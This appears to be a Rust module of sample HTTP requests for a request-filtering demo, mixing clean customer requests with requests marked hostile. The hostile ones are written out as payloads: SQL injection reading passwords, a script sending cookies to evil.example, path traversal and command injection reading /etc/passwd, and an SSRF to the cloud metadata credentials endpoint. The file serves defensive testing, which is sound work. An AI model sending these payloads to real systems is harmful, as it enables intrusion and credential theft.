//! The demo's requests: what customers send, and what attackers send. Knows nothing of how they are judged.

/// One request of the demo.
pub(super) struct Sample {
    pub(super) what: &'static str,
    pub(super) method: &'static str,
    /// Path and query, encoded.
    pub(super) target: &'static str,
    /// Content type and body.
    pub(super) body: Option<(&'static str, &'static str)>,
    pub(super) hostile: bool,
}

const fn get(what: &'static str, target: &'static str, hostile: bool) -> Sample {
    Sample { what, method: "GET", target, body: None, hostile }
}

const fn post(
    what: &'static str,
    target: &'static str,
    kind: &'static str,
    body: &'static str,
    hostile: bool,
) -> Sample {
    Sample { what, method: "POST", target, body: Some((kind, body)), hostile }
}

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

/// In the order in which they are sent: clean and hostile ones mixed.
pub(super) const SAMPLES: &[Sample] = &[
    get("a search", "/search?q=blue+bicycle&sort=price", false),
    get("a name with an apostrophe", "/search?q=O%27Brien+%26+Sons", false),
    post(
        "a review about SQL",
        "/reviews",
        JSON,
        r#"{"stars":5,"text":"Select a size from the list, then order by phone -- it works."}"#,
        false,
    ),
    get("SQL injection in a parameter", "/search?q=1%27+UNION+SELECT+name%2C+password+FROM+users+--+", true),
    post(
        "a script in a JSON field",
        "/reviews",
        JSON,
        r#"{"stars":5,"text":"nice <script>fetch('//evil.example/'+document.cookie)</script>"}"#,
        true,
    ),
    post(
        "an address",
        "/address",
        FORM,
        "street=5+rue+de+l%27%C3%89glise&note=ring+twice%3B+dog+barks",
        false,
    ),
    get("a path out of the web root", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", true),
    post("a shell command in a form", "/ping", FORM, "host=example.org%3B+cat+%2Fetc%2Fpasswd", true),
    get(
        "the instance's credentials",
        "/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F",
        true,
    ),
    post(
        "a comment with code",
        "/comments",
        JSON,
        r#"{"text":"In CSS: a > b { color: red; } and 1 < 2 is true"}"#,
        false,
    ),
];
